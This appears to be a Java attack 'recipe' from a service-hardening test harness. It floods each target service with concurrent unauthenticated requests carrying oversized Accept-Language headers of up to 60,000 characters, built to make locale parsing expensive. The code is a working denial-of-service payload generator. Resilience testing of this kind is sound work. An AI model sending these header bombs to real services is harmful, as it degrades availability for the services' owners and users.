package org.buranakan.journey.attack.recipe;

import java.util.Collections;
import java.util.List;
import org.buranakan.journey.attack.aim.Call;
import org.buranakan.journey.attack.aim.Recipe;
import org.buranakan.journey.attack.aim.Target;

/** Language tags that are costly to understand, from whoever has no token. */
final class AcceptLanguageBombs implements Recipe {
  private static final List<Integer> SIZES = List.of(12_000, 7_500, 20_000, 1_600, 60_000, 600);
  private static final int AT_ONCE = 8;

  @Override
  public void attack(Target target) {
    for (var size : SIZES) {
      for (var bomb : bombs(target, size)) {
        for (var service : target.services()) {
          if (!target.hasTime()) {
            return;
          }
          var path = target.random().nextBoolean() ? Target.list(service) : "/nothing";
          var call = Call.get(service, path).with("Accept-Language", bomb);
          target.sendAtOnce(Collections.nCopies(AT_ONCE, call));
        }
      }
    }
  }

  private static List<String> bombs(Target target, int size) {
    var letter = (char) ('a' + target.random().nextInt(26));
    return List.of(
        "th-u-" + filled("ca-buddhist-", size) + "x",
        filled("th,", size) + "en",
        filled("en;q=0.00" + letter + ",", size) + "*",
        "x-" + filled("abcdefgh-", size) + letter,
        filled("" + letter, size));
  }

  private static String filled(String part, int size) {
    return part.repeat(1 + size / part.length());
  }
}
